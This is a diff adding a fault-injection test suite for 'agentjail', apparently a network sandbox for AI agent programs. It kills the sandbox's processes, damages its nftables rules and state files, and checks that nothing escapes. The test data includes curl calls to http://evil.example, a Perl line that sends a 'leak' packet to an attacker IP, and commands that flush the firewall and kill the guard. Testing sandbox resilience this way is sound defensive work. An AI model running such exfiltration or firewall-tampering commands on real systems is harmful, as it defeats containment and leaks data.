@@ -1,0 +1,329 @@
+/**
+ * Death and damage of any part, on the real kernel, in both isolations, while a jailed program hammers the attacker.
+ * Judge: the capture shows no packet to the attacker; the kernel shows nothing left after `agentjail gc`.
+ */
+import { setTimeout as sleep } from 'node:timers/promises'
+import t, { type Test } from 'tap'
+import { createLab, type Lab } from '../lab/lab.js'
+import { agentjailPath } from '../lab/paths.js'
+import {
+  eventually,
+  gates,
+  hammer,
+  knocks,
+  isolations,
+  jailed,
+  nothingLeft,
+  policy,
+  policyPath,
+  toEvil,
+  type Isolation,
+} from './faults-kit.js'
+
+/** Instants at which the warden is killed, in each isolation. */
+const kills = Number(process.env['AGENTJAIL_KILLS'] ?? 25)
+/** Milliseconds: bounds a hang, judges no speed. */
+const timeout = 280_000
+
+const cwd = '/srv/work'
+
+interface Bench {
+  readonly lab: Lab
+  readonly isolation: Isolation
+  readonly prefix: readonly string[]
+}
+
+const start = async ({ lab, prefix }: Bench, argv: readonly string[] = knocks) => {
+  const jail = lab.spawnAgentjail([...prefix, '--', ...argv], { timeout: 60_000, cwd })
+  await jail.until(/started/, 20_000)
+  return jail
+}
+
+const granted = (lab: Lab) =>
+  lab.agentjail([
+    ...['run', '--join', 'faults', '--'],
+    ...['curl', '-sS', '--max-time', '5', 'https://plain.example/ok'],
+  ])
+
+const gc = async (t: Test, lab: Lab, name: string) => {
+  const result = await lab.agentjail(['gc'], { timeout: 30_000 })
+  t.equal(result.code, 0, `${name}: gc: ${result.stderr}`)
+}
+
+const silence = async (t: Test, lab: Lab, name: string) => {
+  t.same(await lab.capture.packets(toEvil), [], `${name}: nothing reached the attacker`)
+}
+
+/** Numbers that look random and are the same in each run (mulberry32). */
+const random = (seed: number) => () => {
+  seed = (seed + 0x6d2b79f5) | 0
+  let x = Math.imul(seed ^ (seed >>> 15), 1 | seed)
+  x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x
+  return ((x ^ (x >>> 14)) >>> 0) / 2 ** 32
+}
+
+const wardenKilled = async (t: Test, { lab, prefix }: Bench) => {
+  const next = random(prefix.join(' ').length)
+  let [reached, stopping] = [0, 0]
+  for (let n = 0; n < kills; n++) {
+    const jail = lab.spawnAgentjail([...prefix, '--', ...hammer], { timeout: 30_000, cwd })
+    if (n % 3 === 2) {
+      await jail.until(/started/, 20_000)
+      jail.kill('SIGTERM')
+      await sleep(next() * 120)
+      stopping++
+    } else await sleep(next() * 1200)
+    jail.kill('SIGKILL')
+    await jail.ended
+    if (jail.stdout().includes('started')) reached++
+    const ended = await eventually(() => jailed(lab).length === 0 && gates(lab).length === 0)
+    t.ok(ended, `kill ${n}: the command and the gate ended with the warden`)
+  }
+  t.ok(reached > 0, `${reached} of ${kills} were killed after the launch, ${stopping} while ending`)
+  await gc(t, lab, 'kills')
+  await nothingLeft(t, lab, `${kills} kills`)
+  await silence(t, lab, `${kills} kills`)
+}
+
+const gateKilled = async (t: Test, bench: Bench) => {
+  const { lab } = bench
+  const jail = await start(bench)
+  t.match((await granted(lab)).stdout, /path \/ok/, 'a granted name is reached')
+  const [first] = gates(lab)
+  t.ok(first, 'there is a gate')
+  for (const gate of gates(lab)) await lab.run(['kill', '-9', String(gate.pid)])
+  await jail.until(/the gate ended .* is started again/)
+  const again = await eventually(async () => /path \/ok/.test((await granted(lab)).stdout), 10)
+  t.ok(again, 'the new gate serves')
+  for (const gate of gates(lab)) await lab.run(['kill', '-9', String(gate.pid)])
+  const { stderr } = await jail.ended
+  t.match(stderr, /the gate ended again: .*; the command is ended/)
+  await nothingLeft(t, lab, 'gate killed twice')
+  await silence(t, lab, 'gate killed twice')
+}
+
+const wardenStopped = async (t: Test, bench: Bench) => {
+  const jail = await start(bench, hammer)
+  jail.kill('SIGSTOP')
+  await sleep(1500)
+  await silence(t, bench.lab, 'warden stopped')
+  jail.kill('SIGCONT')
+  jail.kill('SIGTERM')
+  t.equal((await jail.ended).signal, 'SIGTERM')
+  await nothingLeft(t, bench.lab, 'warden stopped and continued')
+}
+
+const damages: [name: string, argv: string[]][] = [
+  ['flush ruleset', ['nft', 'flush', 'ruleset']],
+  ['our table deleted', ['nft', 'delete', 'table', 'inet', 'agentjail_uid']],
+  [
+    'one element deleted',
+    ['sh', '-c', 'nft delete element inet agentjail_uid jails "{ $(id -u aj-faults) }"'],
+  ],
+  ['one rule of ours gone', ['nft', 'flush', 'chain', 'inet', 'agentjail_uid', 'held']],
+  ['the static deny deleted', ['nft', 'delete', 'table', 'inet', 'agentjail']],
+  [
+    'the guard killed',
+    ['sh', '-c', 'kill -9 $(sed "s/.*pid\\":\\([0-9]*\\).*/\\1/" /run/agentjail/guard.json)'],
+  ],
+]
+
+/** uid: noticed within a second (measured by the wall between damage and notice), restored, told, nothing out. */
+const rulesDamaged = async (t: Test, bench: Bench) => {
+  const { lab } = bench
+  const jail = await start(bench)
+  for (const [name, argv] of damages) {
+    const seen = jail.stderr().length
+    const { code, stderr } = await lab.run(argv)
+    t.equal(code, 0, `${name}: ${stderr}`)
+    const from = performance.now()
+    const told = await eventually(() => jail.stderr().slice(seen).includes('have been restored'))
+    t.ok(told, `${name}: restored and told`)
+    t.comment(`${name}: told after ${Math.round(performance.now() - from)} ms`)
+    t.match((await granted(lab)).stdout, /path \/ok/, `${name}: what is granted works`)
+    await silence(t, lab, name)
+  }
+  jail.kill('SIGTERM')
+  await jail.ended
+  await nothingLeft(t, lab, 'damaged rules')
+}
+
+/** namespace: the host's firewall is not what holds the jail. */
+const flushChangesNothing = async (t: Test, bench: Bench) => {
+  const { lab } = bench
+  const jail = await start(bench)
+  await lab.run(['nft', 'flush', 'ruleset'])
+  await sleep(300)
+  t.match((await granted(lab)).stdout, /path \/ok/, 'what is granted works')
+  await silence(t, lab, 'flush')
+  t.ok(
+    await eventually(async () => (await lab.nft()).includes('table inet agentjail'), 200),
+    'the second line comes back',
+  )
+  jail.kill('SIGTERM')
+  await jail.ended
+  await nothingLeft(t, lab, 'flush')
+}
+
+const nftGone = async (t: Test, bench: Bench) => {
+  const { lab } = bench
+  const jail = await start(bench)
+  await lab.run(['mv', '/usr/sbin/nft', '/usr/sbin/nft.gone'])
+  await sleep(500)
+  jail.kill('SIGTERM')
+  const { stderr } = await jail.ended
+  t.same(jailed(lab), [], 'no process is left')
+  if (bench.isolation === 'uid') t.match(stderr, /could not remove the rules: .*nft.*gc/)
+  await lab.run(['mv', '/usr/sbin/nft.gone', '/usr/sbin/nft'])
+  await gc(t, lab, 'nft gone')
+  await nothingLeft(t, lab, 'nft gone')
+  await silence(t, lab, 'nft gone')
+}
+
+/** What agentjail cannot write or open: each refused before the launch in one line, or told, and nothing left. */
+const noRoom = async (t: Test, { lab, prefix }: Bench) => {
+  const run = (limit: string[] = []) =>
+    lab.run([...limit, 'agentjail', ...prefix, '--', 'true'], { timeout: 30_000, cwd })
+  const over = async (dir: string, options: string, script: string) => {
+    const shell = `mount -t tmpfs -o ${options} tmpfs ${dir} && ${script}`
+    const { code, stderr } = await lab.run(['sh', '-c', shell])
+    t.equal(code, 0, stderr)
+    const result = await run()
+    await lab.run(['umount', dir])
+    return result
+  }
+  const readOnly = await over('/run/agentjail', 'ro', 'true')
+  t.match(readOnly, { code: 125, stderr: /^agentjail: .*read-only/i }, 'state directory read-only')
+  const full = await over(
+    '/run/agentjail',
+    'size=4k',
+    'head -c 9999 /dev/zero > /run/agentjail/x || true',
+  )
+  t.match(full, { code: 125, stderr: /^agentjail: .*no space/i }, 'state directory full')
+  const log = await over(
+    '/var/log/agentjail',
+    'size=4k',
+    'head -c 9999 /dev/zero > /var/log/agentjail/x || true',
+  )
+  t.equal(log.code, 0, `log full: the command runs: ${log.stderr}`)
+  await nothingLeft(t, lab, 'no room')
+  for (const files of [18, 22, 26, 30, 36, 44]) {
+    const result = await run(['prlimit', `--nofile=${files}`])
+    t.ok(
+      result.code === 0 || result.code === 125 || result.signal !== null,
+      `${files} descriptors: ${result.code} ${result.stderr.slice(0, 200)}`,
+    )
+    t.notMatch(result.stderr, /\n\s+at /, `${files} descriptors: no stack`)
+    t.ok(await eventually(() => jailed(lab).length === 0), `${files} descriptors: no process`)
+  }
+  await gc(t, lab, 'descriptors')
+  await nothingLeft(t, lab, 'descriptors')
+}
+
+const stateDamaged = async (t: Test, { lab, prefix }: Bench) => {
+  const file = '/run/agentjail/jails/faults.json'
+  const uid = Number((await lab.run(['id', '-u', 'aj-faults'])).stdout)
+  for (const [name, text] of [
+    ['corrupted', '\u0000\u0001nonsense'],
+    ['truncated', '{"v":1,"name":"fau'],
+    ['older', `{"v":0,"name":"faults","uid":${uid}}`],
+    ['empty', ''],
+  ] as const) {
+    lab.writeFile(file, text)
+    const refused = await lab.agentjail([...prefix, '--', 'true'], { cwd })
+    t.match(refused, { code: 125, stderr: /state file .*faults\.json.*agentjail gc/ }, name)
+    const out = await lab.run(['setpriv', `--reuid=${uid}`, '--clear-groups', 'perl', '-e', shot])
+    t.notMatch(out.stdout, /sent/, `${name}: the user stays denied`)
+    await gc(t, lab, name)
+    t.equal((await lab.agentjail([...prefix, '--', 'true'], { cwd })).code, 0, `${name}: repaired`)
+  }
+  await silence(t, lab, 'damaged state')
+  await nothingLeft(t, lab, 'damaged state')
+}
+const shot = `use Socket; socket(my $s, AF_INET, SOCK_DGRAM, 0);
+print send($s, 'leak', 0, pack_sockaddr_in(51820, inet_aton('203.0.113.66'))) ? "sent" : "refused: $!"`
+
+/** Streams that are closed from the start, or whose reader left. */
+const streams = async (t: Test, { lab, prefix }: Bench) => {
+  const words = ['agentjail', ...prefix, '--'].join(' ')
+  for (const script of [
+    `${words} true <&- >&- 2>&-`,
+    `${words} sh -c 'curl -sm2 http://evil.example; exit 3' 2>&1 >/dev/null | true`,
+    `{ ${words} sh -c 'sleep 0.5; curl -sm2 http://evil.example; exit 3'; } 2>&1 | head -c 1 >/dev/null`,
+  ]) {
+    const { signal } = await lab.run(['sh', '-c', script], { timeout: 30_000, cwd })
+    t.equal(signal, null, `${script.slice(-40)}: ends`)
+    t.ok(await eventually(() => jailed(lab).length === 0), 'nobody is left')
+  }
+  await nothingLeft(t, lab, 'streams')
+}
+
+const joinAndStop = async (t: Test, bench: Bench) => {
+  const { lab, prefix } = bench
+  const jail = await start(bench)
+  const taken = await lab.agentjail([...prefix, '--', 'true'], { cwd })
+  t.match(taken, { code: 125, stderr: /jail faults is running already: pid \d+, since .*--join/ })
+  const joined = await lab.agentjail([
+    'run',
+    '--join',
+    'faults',
+    '--',
+    'sh',
+    '-c',
+    'id -un; exit 7',
+  ])
+  t.match(joined, { code: 7, stdout: 'aj-faults\n' }, 'same user, own exit code')
+  t.ok(jailed(lab).length > 0, 'the jail goes on after it')
+  const second = lab.spawnAgentjail([
+    'run',
+    '--join',
+    'faults',
+    '--',
+    'sh',
+    '-c',
+    'echo in; sleep 60',
+  ])
+  await second.until(/in/)
+  const stopped = await lab.agentjail(['stop', 'faults'])
+  t.match(stopped, { code: 0, stdout: 'faults: stopped\n' })
+  t.equal((await second.ended).signal, 'SIGKILL', "the jail's end is its end")
+  t.equal((await jail.ended).signal, 'SIGTERM')
+  t.match(await lab.agentjail(['stop', 'faults']), { code: 2, stderr: /no jail faults/ })
+  await nothingLeft(t, lab, 'join and stop')
+  await silence(t, lab, 'join and stop')
+}
+
+t.setTimeout(2 * timeout)
+for (const isolation of isolations) {
+  t.test(isolation, { timeout }, async (t) => {
+    const lab = await createLab()
+    t.teardown(() => lab.close())
+    lab.writeFile(policyPath, policy)
+    lab.writeFile('/srv/work/README', 'a workspace\n')
+    const agentjail = `#!/bin/sh\nexec ${process.execPath} '${agentjailPath}' "$@"\n`
+    lab.writeFile('/usr/local/bin/agentjail', agentjail, 0o755)
+    const prefix = ['run', '-q', '--policy', policyPath, '--isolation', isolation]
+    const bench = { lab, isolation, prefix }
+    const ready = await lab.agentjail([...prefix, '--', 'true'], { cwd })
+    t.equal(ready.code, 0, ready.stderr)
+    await lab.remember()
+    await lab.capture.clear()
+    const cases = {
+      'kill -9 of the warden': wardenKilled,
+      'kill -9 of the gate': gateKilled,
+      'SIGSTOP of the warden': wardenStopped,
+      ...(isolation === 'uid'
+        ? { 'damaged rules': rulesDamaged }
+        : { 'flush of the host': flushChangesNothing }),
+      'nft gone': nftGone,
+      'no room, no descriptors': noRoom,
+      'damaged state files': stateDamaged,
+      'closed streams': streams,
+      'join and stop': joinAndStop,
+    }
+    const only = process.env['AGENTJAIL_CASE']
+    for (const [name, run] of Object.entries(cases))
+      if (only === undefined || name.includes(only))
+        await t.test(name, { timeout }, (t) => run(t, bench))
+  })
+}
